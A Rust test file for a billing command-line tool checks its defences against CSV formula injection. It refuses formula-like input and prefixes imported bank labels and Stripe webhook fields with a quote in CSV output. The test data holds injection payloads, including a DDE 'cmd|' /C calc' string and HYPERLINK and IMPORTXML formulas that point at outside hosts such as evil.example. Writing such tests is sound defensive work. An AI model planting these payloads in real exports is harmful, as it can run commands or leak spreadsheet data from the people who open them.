//! CSV injection (OWASP): text a spreadsheet would run as a formula is refused where a
//! person types it, and neutralised with a leading `'` in every `--format csv` cell that
//! came from outside (bank labels, webhook fields), while amounts stay numbers.

use insta::assert_snapshot;

use crate::billing::coworking;
use crate::env::Exit;
use crate::error_messages::refusals;
use crate::gateway::{NOW_UNIX, STRIPE_SECRET, stripe_customer, stripe_header, succeeded_body};

#[test]
fn text_starting_like_a_formula_is_refused_where_a_person_types_it() {
    let env = coworking();
    let before = env.dump();
    assert_snapshot!(refusals(&env, Exit::BadData, &[
        "customer add X1 '--name=-20% remise'",
        "customer add X1 --name '+33 6 12 34 56 78'",
        r#"customer add X1 --name X --email '=HYPERLINK("http://x")@x.fr'"#,
        "customer add X1 --name X --email=-x@x.fr",
        "customer add X1 --name X --address @home",
        "customer edit C1 --name =1+1",
        r#"item add X1 "--name=-cmd|' /C calc'!A0""#,
        "config set company.address =1+1",
    ]), @r#"
    $ subs customer add X1 '--name=-20% remise'
    error: --name: "-20% remise" starts with '-', which makes a spreadsheet read it as a formula; reword it
    $ subs customer add X1 --name '+33 6 12 34 56 78'
    error: --name: "+33 6 12 34 56 78" starts with '+', which makes a spreadsheet read it as a formula; reword it
    $ subs customer add X1 --name X --email '=HYPERLINK("http://x")@x.fr'
    error: --email: "=HYPERLINK(\"http://x\")@x.fr" starts with '=', which makes a spreadsheet read it as a formula; reword it
    $ subs customer add X1 --name X --email=-x@x.fr
    error: --email: "-x@x.fr" starts with '-', which makes a spreadsheet read it as a formula; reword it
    $ subs customer add X1 --name X --address @home
    error: --address: "@home" starts with '@', which makes a spreadsheet read it as a formula; reword it
    $ subs customer edit C1 --name =1+1
    error: --name: "=1+1" starts with '=', which makes a spreadsheet read it as a formula; reword it
    $ subs item add X1 "--name=-cmd|' /C calc'!A0"
    error: --name: "-cmd|' /C calc'!A0" starts with '-', which makes a spreadsheet read it as a formula; reword it
    $ subs config set company.address =1+1
    error: company.address: "=1+1" starts with '=', which makes a spreadsheet read it as a formula; reword it
    "#);
    assert_eq!(env.dump(), before);
}

#[test]
fn a_dash_inside_text_or_an_address_is_still_fine() {
    let env = coworking();
    env.ok("customer add X-1 --name 'Dupont - Martin' --email jean-pierre@dupont-martin.fr");
}

#[test]
fn bank_labels_that_look_like_formulas_go_out_neutralised_in_csv_and_as_is_in_json() {
    let env = coworking();
    env.write(
        "releve.csv",
        "Date;Libellé;Débit;Crédit;Référence\n\
         02/02/2026;\"=HYPERLINK(\"\"http://evil.example\"\";\"\"clic\"\")\";;10,00;@SUM(A1)\n\
         03/02/2026;-2+3;84,12;;+cmd\n\
         04/02/2026;VIR NORMAL;;5,00;REF-1\n",
    );
    env.ok("bank import releve.csv");
    // Negative amounts are numbers, not formulas: they stay as they are.
    assert_snapshot!(env.ok("bank list --format csv"), @r#"
    id,date,amount,label,reference,counterparty,status,match_rule,customer,payment,currency,note
    1,2026-02-02,10.00,"'=HYPERLINK(""http://evil.example"";""clic"")",'@SUM(A1),,unmatched,,,,EUR,
    2,2026-02-03,-84.12,'-2+3,'+cmd,,unmatched,,,,EUR,
    3,2026-02-04,5.00,VIR NORMAL,REF-1,,unmatched,,,,EUR,
    "#);
    // As JSON, the text is data and goes out as it came in.
    let json = env.json("bank list");
    assert_eq!(
        json[0]["label"],
        "=HYPERLINK(\"http://evil.example\";\"clic\")"
    );
    assert_eq!(json[1]["reference"], "+cmd");
}

#[test]
fn webhook_fields_that_look_like_formulas_go_out_neutralised_in_csv() {
    let env = stripe_customer(1);
    env.ok("tick");
    let body = succeeded_body("PR-0001", "INV-2026-00001", 37200)
        .replace("\"pi_1\"", "\"=IMPORTXML(CONCAT(\\\"http://x/?\\\",A1))\"");
    let header = stripe_header(STRIPE_SECRET, NOW_UNIX, &body);
    let run = env.run_stdin(
        format!("webhook receive --gateway stripe --signature '{header}'"),
        body,
    );
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert_snapshot!(env.ok("payment list --format csv"), @r#"
    id,customer,date,amount,currency,method,reference,allocated,unallocated,invoices,refunded
    PAY-0001,C1,2026-01-01,372.00,EUR,gateway,"'=IMPORTXML(CONCAT(""http://x/?"",A1))",372.00,0.00,INV-2026-00001,0.00
    "#);
    // The token of the payment link is random.
    insta::with_settings!({filters => vec![("[0-9a-f]{32}", "[token]")]}, {
        assert_snapshot!(env.ok("payment-request list --format csv"), @r#"
    id,invoice,customer,subscription,method,amount,currency,status,token,link,gateway_payment_id,failure,created_at,updated_at
    PR-0001,INV-2026-00001,C1,SUB-0001,stripe,372.00,EUR,paid,[token],https://pay.example.fr/p/[token],"'=IMPORTXML(CONCAT(""http://x/?"",A1))",,2026-01-01T00:00:00+01:00,2026-01-01T00:00:00+01:00
        "#);
    });
    assert_eq!(
        env.json("payment-request show PR-0001")["gateway_payment_id"],
        "=IMPORTXML(CONCAT(\"http://x/?\",A1))"
    );
}

#[test]
fn a_credit_note_s_negative_amounts_stay_numbers_in_csv() {
    let env = coworking();
    env.ok("invoice create --customer C1 --item DESK");
    env.ok("invoice credit INV-2026-00001 --yes");
    assert_snapshot!(env.ok("invoice list --format csv"), @"
    number,kind,status,payment_status,customer,subscription,issue_date,due_date,period_start,period_end,currency,net_total,tax_total,grand_total,outstanding,credits_invoice
    INV-2026-00001,invoice,issued,credited,C1,,2026-01-01,2026-01-31,,,EUR,310.00,62.00,372.00,0.00,
    CN-2026-00001,credit_note,issued,paid,C1,,2026-01-01,2026-01-01,,,EUR,-310.00,-62.00,-372.00,0.00,INV-2026-00001
    ");
}
